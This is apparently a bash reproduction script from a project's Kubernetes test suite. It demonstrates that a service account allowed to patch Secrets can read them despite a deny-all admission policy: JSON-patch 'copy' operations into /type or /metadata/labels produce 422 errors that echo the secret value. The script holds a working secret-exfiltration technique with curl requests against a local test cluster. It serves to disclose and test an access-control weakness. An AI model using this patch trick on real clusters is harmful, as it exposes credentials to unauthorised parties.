#!/usr/bin/env bash
# A user who may patch a Secret, and not get it, reads it, though an admission policy refuses the patch.
#
# Versions: Kubernetes 1.36.3 (API server).
# One would guess: a ValidatingAdmissionPolicy that refuses all writes of a user in a namespace makes the verb
# `patch` harmless there.
# Seen: it refuses patches that can be applied, also those without content. A JSON patch that copies the
# value to where it does not fit fails before validating admission, and the error (422) names the value: of
# `/type` by the check of immutable fields, of `/metadata/labels` by decoding, there the whole object.
# So whoever must not read Secrets gets no `patch` on them; `create`, `update` and `delete` tell nothing.
#
# Run it with the programs of `scripts/tools cluster`.
set -euo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
PATH=$("$root/scripts/tools" --path):$PATH
export PATH

folder=$(mktemp -d)
mkfifo "$folder/hold" "$folder/state"
"$root/tests/kubernetes/cluster.sh" run <"$folder/hold" >"$folder/state" &
exec 8>"$folder/hold"
# The cluster ends when this holds its input no more.
trap 'exec 8>&-; wait; rm -rf "$folder"' EXIT
read -r state <"$folder/state"
export KUBECONFIG=$state/kubeconfig

kubectl create -f - >/dev/null <<'END'
apiVersion: v1
kind: ServiceAccount
metadata: {name: agent, namespace: default}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: agent}
rules: [{apiGroups: [""], resources: [secrets], verbs: [create, update, patch, delete]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: agent}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: agent}
subjects: [{kind: ServiceAccount, name: agent, namespace: default}]
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {name: agent}
spec:
  failurePolicy: Fail
  matchConstraints: {resourceRules: [{apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*/*"]}]}
  matchConditions: [{name: agent, expression: "request.userInfo.username == 'system:serviceaccount:default:agent'"}]
  validations: [{expression: "false", message: "refused by the policy"}]
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: {name: agent}
spec: {policyName: agent, validationActions: [Deny]}
END
kubectl -n kube-system create secret generic victim --from-literal=password=topsecret >/dev/null
server=$(kubectl config view -o 'jsonpath={.clusters[0].cluster.server}')
token=$(kubectl create token agent)

ask() {
  local answer
  answer=$(curl -sk -X "$2" -H "Authorization: Bearer $token" -H "Content-Type: application/$3" \
    "$server/api/v1/namespaces/kube-system/secrets/victim" -d "$4")
  case $answer in
    *dG9wc2VjcmV0*) printf '%s: refused, and names the value\n' "$1" ;;
    *"refused by the policy"*) printf '%s: refused by the policy\n' "$1" ;;
    *) printf '%s: %s\n' "$1" "$(jq -r '.message // "answered"' <<<"$answer")" ;;
  esac
}
for _ in $(seq 50); do
  [[ $(ask probe PATCH merge-patch+json '{}') == *"by the policy" ]] && break
  sleep 0.2
done
copy() { printf '[{"op":"copy","from":"/data/password","path":"%s"}]' "$1"; }
ask "a patch without content" PATCH merge-patch+json '{}'
ask "a copy to /type" PATCH json-patch+json "$(copy /type)"
ask "a copy to /metadata/labels" PATCH json-patch+json "$(copy /metadata/labels)"
ask "a replacement of another type" PUT json '{"metadata":{"name":"victim"},"type":"a"}'
ask "a deletion" DELETE json '{}'
